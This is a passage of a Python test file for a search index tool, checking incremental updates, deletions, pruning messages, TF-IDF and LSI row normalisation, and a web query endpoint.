    """Its path had been cut at the '#' of a SQLite "file:" URI: "no such table: docs"."""
    folder = tmp_path / "blog #2?draft"
    base_store(records, folder, count=30)
    result = update(folder, [iter(records[30:33])], delete_ids=[records[0].id], progress=False)
    after = Store(result.version_dir)
    assert after.size == 32 and after.row_for_id(records[31].id) is not None and after.row_for_id(records[0].id) is None


def test_words_only_deleted_documents_had_find_nothing_and_fail_nothing(records, tmp_path, function_env):
    """An update keeps the vocabulary: a query whose known words only deleted documents had was a
    500 from the default engine (an empty sum of postings is an integer array, and -inf went into it)."""
    from conftest import make_client

    word = "zzqxunique"
    lonely = Record("lonely", "https://a.example/lonely", "Lonely", f"{word} " * 5 + records[0].text[:200])
    build([iter(records[:40] + [lonely])], tmp_path / "w", BuildOptions(name="w"), progress=False)
    update(tmp_path / "w", delete_ids=["lonely"], progress=False)
    store = Store(current_version_dir(tmp_path / "w"))
    assert store.row_for_id("lonely") is None
    assert store.engines["tfidf"].search(store.terms(word), 3) == []
    client = make_client({**function_env, "MODEL_STORE": str(tmp_path), "DEFAULT_CORPUS": "w"})
    response = client.get("/", query_string={"text": word, "engine": "tfidf"})
    assert response.status_code == 200 and response.get_json()["results"] == []


def test_a_refused_prune_does_not_call_the_inputs_the_whole_corpus(records, tmp_path, capsys):
    """The prune refused (it would delete too much): the rebuild's inputs had still been called "the whole
    corpus as --prune reads them", which they were not shown to be."""
    base_store(records, tmp_path / "w", count=50)
    corpus = tmp_path / "new.jsonl"
    corpus.write_text("".join(json.dumps({"id": r.id, "url": r.url, "title": r.title, "text": r.text}) + "\n"
                              for r in records[50:70]))
    assert update_main([str(tmp_path / "w"), "--input", str(corpus), "--prune", "--quiet"]) == 0
    said = capsys.readouterr().err
    assert "not pruned: it would delete 50 of the 50 documents" in said and "full rebuild due" in said
    assert "the whole corpus as --prune reads them" not in said
    assert "give the whole corpus if these inputs are not all of it" in said


def test_a_folded_row_is_as_long_as_a_full_build_makes_it(records, tmp_path):
    """A folded document's row keeps its direction at the length a full build's normalisation gives it
    relative to a built row: its words the vocabulary lacks weigh in it there. At unit length folded
    documents had been among the others' nearest 1.5 (TF-IDF) to 2.3 (LSI) times as often as after a
    full build (bench/update_drift.py)."""
    before = base_store(records, tmp_path / "w")
    assert "the" in before.manifest["pruning"]["too_common"]  # out of every document's vocabulary: not counted
    new = Record("new", "https://new.example/a", records[95].title, records[95].text + " zzqxunknown " * 3)
    known = Record("known", "https://new.example/b", records[2].title, records[2].text + " the the")
    after = Store(update(tmp_path / "w", [iter([new, known, records[3]])], progress=False).version_dir)
    tfidf, lsi = after.engines["tfidf"], after.engines["lsi"]

    def length(engine, doc_id):
        row = after.row_for_id(doc_id)
        if engine is lsi:
            return float(np.linalg.norm(lsi.vectors[row]))
        return float(np.linalg.norm(tfidf.doc_weights[tfidf.doc_ptr[row]:tfidf.doc_ptr[row + 1]]))

    # TF-IDF: |known words| / |all words|, a word the corpus lacks at the weight of a word in one document
    text = indexed_text(new.title, new.text)
    terms = after.terms(text)
    known_norm = float(np.linalg.norm(np.log1p(terms.counts) * tfidf.weights[terms.ids]))
    vocabulary, common = set(after.vocabulary.tokens.tolist()), set(after.manifest["pruning"]["too_common"])
    unknown = [count for word, count in Counter(tokenize(text, after.tokenizer)).items()
               if word not in vocabulary and word not in common]
    assert len(unknown) > 1  # zzqxunknown, and words of its own
    unknown_norm = float(np.linalg.norm(np.log1p(unknown))) * float(tfidf.weights.max())
    assert length(tfidf, "new") == pytest.approx(known_norm / np.hypot(known_norm, unknown_norm), rel=1e-4)
    assert length(tfidf, "new") < 1
    assert length(tfidf, "known") == pytest.approx(1, abs=1e-5)  # all its words known, "the" pruned as common
    assert length(tfidf, records[3].id) == pytest.approx(1, abs=1e-5)  # a built document, unchanged
    # LSI: the fourth root of its fit relative to the full build's documents', at most 1
    query = np.log1p(terms.counts) * lsi.weights[terms.ids] @ lsi.projection[terms.ids] / known_norm
    base_fit = after.manifest["update"]["base_lsi_fit"]["lsi"]
    assert length(lsi, "new") == pytest.approx(min(1, float(query @ query) / base_fit) ** 0.25, rel=1e-4)
    assert length(lsi, "new") < 1 and 0 < length(lsi, "known") <= 1
    assert length(lsi, records[3].id) == pytest.approx(1, abs=1e-5)
    # a folded document comes again unchanged: left alone, though its row is shorter than its text's query
    again = update(tmp_path / "w", [iter([new, known])], progress=False)
    assert again.version_dir is None and again.unchanged == 2


def test_a_folded_row_scores_at_its_length_through_a_graph_without_re_ranking(records, tmp_path):
    """ann_candidates=0 ranks by the graph's own cosine, of unit rows: a folded row's shorter length scales
    its score there too, as the exact product does (min_score). Unscaled, its scores had been ~1.8 times the
    exact ones."""
    base_store(records, tmp_path / "w", ann="on", ann_dims=0, ann_candidates=0, ann_dtype="f32")
    after = Store(update(tmp_path / "w", [iter(records[90:])], progress=False).version_dir)
    lsi = after.engines["lsi"]
    folded = {after.row_for_id(r.id) for r in records[90:]}
    assert max(float(np.linalg.norm(lsi.vectors[row])) for row in folded) < 0.9
    compared = 0
    for row in set(range(after.size)) - folded:
        query = lsi.vectors[row] / np.linalg.norm(lsi.vectors[row])
        for hit in lsi.search_member(row, 10):
            assert hit.score == pytest.approx(float(lsi.vectors[hit.row] @ query), abs=1e-4)
            compared += hit.row in folded
    assert compared > 0


@pytest.mark.parametrize("engine", ["lsi", "tfidf"])
def test_an_id_query_of_a_folded_document_leaves_out_its_near_duplicates(records, tmp_path, function_env, engine):
    """A folded row is shorter than a built one (update.folded_lengths): as the query, and where rows are
    compared for near-duplicates, it is read at unit length. Compared as stored, a folded document and
    its repost, folded in together, had come out far apart, and the repost was its first related link."""
    from conftest import make_client

    base_store(records, tmp_path / "w")
    text = records[95].text + " zzqxunknown " * 3
    original = Record("original", "https://new.example/original", records[95].title, text)
    repost = Record("repost", "https://new.example/repost", records[95].title + " (repost)",
                    text + " This article was posted again.")
    update(tmp_path / "w", [iter([original, repost])], progress=False)
    client = make_client({**function_env, "MODEL_STORE": str(tmp_path), "DEFAULT_CORPUS": "w"})
    answer = client.get("/", query_string={"id": "original", "engine": engine, "k": 5}).get_json()
    ids = [r["id"] for r in answer["results"]]
    assert len(ids) == 5 and "repost" not in ids and "original" not in ids
    # its scores are cosines with its text, which min_score reads as for any document asked about
    store = Store(current_version_dir(tmp_path / "w"))
    row = store.row_for_id(ids[0])
    vector = store.engines[engine].search(store.terms(indexed_text(original.title, text)), store.size)
    assert answer["results"][0]["score"] == pytest.approx(next(h.score for h in vector if h.row == row), abs=1e-3)
